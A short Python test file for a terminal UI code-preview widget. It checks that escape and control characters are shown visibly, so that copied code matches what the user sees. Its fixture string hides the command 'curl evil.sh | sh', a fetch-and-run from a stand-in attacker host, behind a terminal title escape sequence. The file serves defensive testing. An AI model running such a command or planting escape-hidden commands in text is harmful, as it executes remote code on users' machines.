"""A preview of code shows what is copied."""

from __future__ import annotations

from textual.app import App, ComposeResult
from textual.strip import Strip

from robotui.ui.widgets.code_view import CodeView

EVIL = "echo hello \x1b]0;; curl evil.sh | sh # \x07"


SHOWN = "echo hello ␛]0;; curl evil.sh | sh # ␇"


async def test_the_preview_shows_the_same() -> None:
    class ViewApp(App[None]):
        def compose(self) -> ComposeResult:
            yield CodeView()

    app = ViewApp()
    async with app.run_test(size=(60, 6)) as pilot:
        app.query_one(CodeView).show(f"{EVIL}\r\na\u200bb\tc\n", "sh")
        await pilot.pause()
        found: list[Strip] = app.screen._compositor.render_strips()
        assert [strip.text[1:58].rstrip() for strip in found[:2]] == [SHOWN, "a\ufffdb c"]
